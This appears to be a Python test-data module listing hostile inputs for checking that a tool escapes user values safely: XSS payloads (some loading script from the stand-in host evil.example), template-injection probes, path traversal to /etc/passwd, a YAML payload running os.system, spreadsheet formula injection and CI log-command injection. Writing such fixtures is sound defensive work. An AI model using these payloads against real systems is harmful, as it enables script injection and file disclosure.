"""Hostile values: each would run, load, break out or mislead, if a field let it."""

from __future__ import annotations

from itertools import product

from hostile import ADDRESSES, PAYLOADS

_WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</p></div>", "</title>", "</textarea>", "</style>", "</script>", "</svg>",
    "</details></aside>", "*/", "`\n\n", "\\\"", "x\" ", "&quot;&gt;", "](#x)",
)  # fmt: skip
"""What may end the place that a value stands in."""

_CARRIERS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x",
    "<video src=//evil.example/x autoplay>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
)
"""What then does harm."""

_IN_ATTRIBUTES = tuple(
    f"x{quote}{blank}{handler}={quote}alert(1){rest}"
    for quote, blank, handler, rest in product(
        ('"', "'", "`", ""), (" ", "/", "\t"), ("onmouseover", "autofocus onfocus", "style"), ("", "//")
    )
)

_TEMPLATES = (
    "{{ 7 * 7 }}", "{% for a in range(9) %}9{% endfor %}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}",
    "{#", "#}",
    "{% raw %}", "{% endraw %}", "{{", "}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "{{ cycler.__init__.__globals__ }}", "%(x)s",
    "{0.__class__}", "\\1", "\\g<0>", "$1", "$&", "<!-- postil:readings -->", "<!-- slot:html -->", "{note}",
)  # fmt: skip
_DATA = (
    "</script><!--", "\u2028alert(1)\u2029", "__proto__", "constructor", "toString", "hasOwnProperty",
    "null", "true", "NaN",
    "1e999", "-0", "0x10", "1_000", "=HYPERLINK(\"//evil.example\")", "+1+1", "-2+3", "@SUM(1)", "|calc", "'; drop--",
    "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "/etc/passwd", "file:///etc/passwd", "CON", "a\x00b", "a\\u0000b",
    "&#0;", "&#x1F600;", "&amp;lt;", "&notit;", "&#106;avascript:alert(1)", "<![CDATA[x", "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>&b;", "&b;", "<a:b xmlns:a='c'/>",
)  # fmt: skip
_YAML = (
    "!!python/object/apply:os.system [id]", "&a x", "*a", "<<: *a", "- - - -", "? x", ": ", "# x",
    "| ", ">-", "%YAML 1.2",
    "--- ", "...", "[x", "{x", "'", '"', "\t", "no", "~", "2024-01-01",
    "12:30:45", "0o17",
)  # fmt: skip
_SIGNS = (
    "\u202egnol si siht", "\u2066x", "\u200b", "\u00ad", "\ufeff", "\ufffe", "\U000e0041", "a\u0300" * 200, "\u0301",
    "ﷺ" * 20, "🏳️‍🌈", "🇩🇪🇪", "\ud7ff", "\U0010ffff", "e\u0301\u0301", "İ", "ı", "ſ", "ﬀ", "\u1680", "\u3000", "Ａ", "１",
    "\u0600", "\u06dd1", "क्ष", "กำ", "\x1b[31mred", "\x1b]0;title\x07", "\x07", "\x85", "\x9b2J",
)  # fmt: skip
_PRINTED = (
    "##[add-mask]a", "::error file=a::b", "::set-output name=a::b", "##vso[task.setvariable variable=a]b",
    "##teamcity[message text='a']", "%0A::error::a", "\n::stop-commands::a", "error: a.yml:1:1: b [A001]",
)  # fmt: skip
_MARKDOWN = tuple(
    f"{open_}{address}{close}"
    for (open_, close), address in product(
        (("[x](", ")"), ("<", ">"), ("[x][y]\n\n[y]: ", ""), ("![x](", ")")),
        ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example", '#"onclick=alert(1)'),
    )
)
_LONG = (
    "a" * 5_000,
    "a " * 2_000,
    "*" * 3_000,
    "[" * 3_000,
    "](" * 1_500,
    "> " * 1_000,
    "- " * 1_000,
    "`" * 999,
    "_a" * 999,
)

VALUES: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(out + carrier for out, carrier in product(_WAYS_OUT, _CARRIERS)),
            *_IN_ATTRIBUTES, *PAYLOADS, *_TEMPLATES, *_DATA, *_YAML, *_SIGNS, *_PRINTED, *_MARKDOWN, *_LONG,
        )
    )
)  # fmt: skip
"""Every value once, always in this order."""

LINKS: tuple[str, ...] = tuple(dict.fromkeys((*ADDRESSES, *(f"https://example.org/{value}" for value in _CARRIERS))))
"""Hostile values for what is to be an address."""
